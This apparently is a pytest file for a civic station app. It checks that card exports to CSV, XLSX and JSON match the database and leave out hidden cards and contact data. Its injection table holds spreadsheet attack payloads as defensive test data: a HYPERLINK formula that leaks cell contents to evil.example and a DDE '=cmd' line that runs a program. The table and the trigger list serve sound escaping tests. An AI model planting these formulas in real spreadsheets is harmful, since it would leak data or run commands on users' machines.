"""CSV, XLSX and JSON exports: read back with their own readers, each equal to the database.

Also: the formula-injection table, hidden cards and Mitmachpool contacts never exported.
"""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import jsonschema_rs
import openpyxl
import pytest

from station_app.errors import UserError
from station_app.export.common import neutralise
from station_app.export.exporter import Exporter
from station_app.intake import CardDraft
from station_app.protocol.export_columns import CARD_HEADINGS, CARD_KEYS
from station_app.storage.moderation import Moderation

ROOT = Path(__file__).resolve().parents[3]

INJECTION_TABLE = [
    # (card text, what a spreadsheet must show)
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "'=HYPERLINK(\"http://evil.example/"
                                                          "?x=\"&A1,\"Klick\")"),
    ("+49 231 500", "'+49 231 500"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("Mehr Grün = mehr Leben", "Mehr Grün = mehr Leben"),
    ("'schon zitiert", "'schon zitiert"),
    ("#NV", "#NV"),
]


def _submit(station, clock, text, **fields):
    clock.advance(37)
    values = {"prompt_id": "idee", "topic_id": "wohnen", "text": text}
    values.update(fields)
    return station.intake.submit(CardDraft(**values))


@pytest.fixture
def filled(station, clock):
    """Two sessions; the second has varied cards, one hidden, and a Mitmachpool contact."""
    station.sessions.open("Vormittag")
    first = _submit(station, clock, "Karte aus der ersten Sitzung")
    station.versions = {first.uuid: None}  # before any station package
    station.archive.config_version = 3  # as if restarted on package version 3
    station.sessions.open("Stadtkonferenz 28.09. – Station Wohnen")
    cards = [
        _submit(station, clock, "Mehr Bänke im Park; mit \"Schatten\"\nund Wasser",
                prompt_id="heute", topic_id="kultur", district_id="hoerde",
                age_group_id="30-44"),
        _submit(station, clock, "Straßenbahn bis Mitternacht 🚋 – İstanbul’daki gibi",
                prompt_id="herausforderungen", topic_id="arbeit", language="en"),
        _submit(station, clock, "Ein Treffpunkt für Jung und Alt", topic_id="anderes",
                source="paper", district_id="eving"),
        _submit(station, clock, "Meine Nummer ist 0170 1234567", prompt_id="erhalten"),
    ]
    cards += [_submit(station, clock, text) for text, _ in INJECTION_TABLE]
    station.versions.update((card.uuid, 3) for card in cards)
    Moderation(station.db, station.audit, clock).hide(cards[3].code, "Telefonnummer")
    station.db["contacts"].insert({
        "uuid": "c-1", "session_id": cards[0].session_id,
        "sealed": b"kontakt-geheim@example.org", "consent_version": "2026-1",
        "consented_at": clock.now.isoformat()})
    station.visible_cards = [c for c in cards if c is not cards[3]]
    station.hidden_card = cards[3]
    return station


def _labels(station, card) -> dict:
    """The German labels of a card's ids, from the config ('' for a detail not given)."""
    config = station.config
    topic = config.topic(card.topic_id)
    return {
        "prompt_label": config.prompt(card.prompt_id).label,
        "topic_label": topic.label if topic else "Anderes Thema",
        "district_label": config.district(card.district_id).label if card.district_id else "",
        "age_group_label": (config.age_group(card.age_group_id).label
                            if card.age_group_id else ""),
    }


def _expected(station, card, safe: bool) -> dict:
    """A card as a spreadsheet export should show it, from the database and the config."""
    clean = neutralise if safe else (lambda value: value)
    labels = _labels(station, card)
    return {
        "uuid": card.uuid, "code": card.code, "session_id": card.session_id,
        "session_name": clean(station.sessions.get(card.session_id).name),
        "station_id": card.station_id, "created_at": card.created_at.isoformat(),
        "prompt_id": card.prompt_id, "prompt_label": labels["prompt_label"],
        "topic_id": card.topic_id, "topic_label": labels["topic_label"],
        "district_id": card.district_id,
        "district_label": labels["district_label"] or "keine Angabe",
        "age_group_id": card.age_group_id,
        "age_group_label": labels["age_group_label"] or "keine Angabe",
        "language": card.language, "source": card.source,
        "source_label": {"kiosk": "Station (Touchscreen)", "paper": "Papierkarte"}[card.source],
        "text": clean(card.text), "config_version": station.versions[card.uuid],
    }


def _export(station, fmt, path, **options):
    return Exporter(station.db, station.config, station.sessions._clock).write(fmt, path,
                                                                              **options)


def test_csv_round_trip_is_equal_to_the_database(filled, tmp_path):
    path = tmp_path / "karten.csv"
    result = _export(filled, "csv", path)
    assert (result.cards, result.hidden) == (len(filled.visible_cards), 1)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: German Excel reads UTF-8
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";", strict=True))
    assert rows[0] == list(CARD_HEADINGS)
    read_back = [dict(zip(CARD_KEYS, row, strict=True)) for row in rows[1:]]
    expected = [{k: "" if v is None else str(v) for k, v in _expected(filled, c, True).items()}
                for c in filled.visible_cards]
    assert read_back == expected
    assert b"\r\n" in raw and raw.count(b";") > 100


def test_csv_comma_delimiter_and_bad_delimiter(filled, tmp_path):
    path = tmp_path / "karten.csv"
    _export(filled, "csv", path, delimiter=",")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["Kartencode"] for row in rows] == [c.code for c in filled.visible_cards]
    with pytest.raises(UserError, match="delimiter must be one of"):
        _export(filled, "csv", tmp_path / "x.csv", delimiter="ab")
    assert not (tmp_path / "x.csv").exists()


@pytest.mark.parametrize(("text", "shown"), INJECTION_TABLE)
def test_formula_injection_table(text, shown):
    assert neutralise(text) == shown


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_owasp_trigger_is_neutralised(trigger):
    assert neutralise(f"{trigger}x") == f"'{trigger}x"


def test_csv_cells_are_neutralised_in_the_file(filled, tmp_path):
    path = tmp_path / "karten.csv"
    _export(filled, "csv", path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        texts = [row["Text"] for row in csv.DictReader(handle, delimiter=";")]
    for _text, shown in INJECTION_TABLE:
        assert shown in texts
    for row_text in texts:
        assert not row_text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_round_trip_and_no_formula_anywhere(filled, tmp_path):
    path = tmp_path / "karten.xlsx"
    result = _export(filled, "xlsx", path)
    assert result.cards == len(filled.visible_cards)
    workbook = openpyxl.load_workbook(path)  # formulas would load as "=..." strings
    sheet = workbook["Karten"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == CARD_HEADINGS
    read_back = [dict(zip(CARD_KEYS, row, strict=True)) for row in rows[1:]]
    expected = []
    for card in filled.visible_cards:
        row = _expected(filled, card, safe=False)
        # Empty cells read back as None, as they were written.
        expected.append({k: (None if v == "" else v) for k, v in row.items()})
    assert read_back == expected
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f", cell.coordinate
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    texts = {row["text"] for row in read_back}
    assert {text for text, _ in INJECTION_TABLE} <= texts  # stored as text, unchanged

    counts = {(r[0], r[1]): r[3] for r in workbook["Auszählung"].iter_rows(
        min_row=2, values_only=True)}
    assert counts[("Sichtbare Karten", None)] == len(filled.visible_cards)
    assert counts[("Ausgeblendete Karten", None)] == 1
    assert counts[("Themenfeld", "anderes")] == 1 and counts[("Stadtbezirk", "hoerde")] == 1
    assert sum(v for (dim, _), v in counts.items() if dim == "Frage") == result.cards


def test_json_round_trip_matches_the_schema_and_the_database(filled, tmp_path):
    path = tmp_path / "karten.json"
    result = _export(filled, "json", path)
    document = json.loads(path.read_text(encoding="utf-8"))
    schema = json.loads((ROOT / "docs" / "export-schema.json").read_text(encoding="utf-8"))
    jsonschema_rs.Draft202012Validator(schema).validate(document)
    assert document["format"] == "station-export/1"
    assert document["statistics"]["visible"] == result.cards
    assert document["statistics"]["hidden"] == 1
    assert document["scope"] == {"all_sessions": False,
                                 "session_id": filled.visible_cards[0].session_id}
    expected = []
    for card in filled.visible_cards:
        row = {**card.as_dict(), "config_version": filled.versions[card.uuid]}
        row.update({key: label or None for key, label in _labels(filled, card).items()})
        expected.append(row)
    assert document["cards"] == expected


def test_json_of_all_sessions_and_of_an_empty_session(filled, tmp_path):
    path = tmp_path / "alle.json"
    _export(filled, "json", path, all_sessions=True)
    document = json.loads(path.read_text(encoding="utf-8"))
    assert len(document["cards"]) == len(filled.visible_cards) + 1
    assert document["sessions"][0]["name"] == "Vormittag"
    filled.sessions.open("Leer")
    _export(filled, "json", path)
    document = json.loads(path.read_text(encoding="utf-8"))
    assert document["cards"] == [] and document["statistics"]["visible"] == 0


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_hidden_cards_and_contacts_never_exported(filled, tmp_path, fmt):
    path = tmp_path / f"karten.{fmt}"
    _export(filled, fmt, path, all_sessions=True)
    if fmt == "xlsx":
        with zipfile.ZipFile(path) as archive:
            content = b"".join(archive.read(name) for name in archive.namelist())
    else:
        content = path.read_bytes()
    assert filled.hidden_card.code.encode() not in content
    assert b"0170 1234567" not in content
    assert b"kontakt-geheim" not in content and b"example.org" not in content
    assert b"consent" not in content
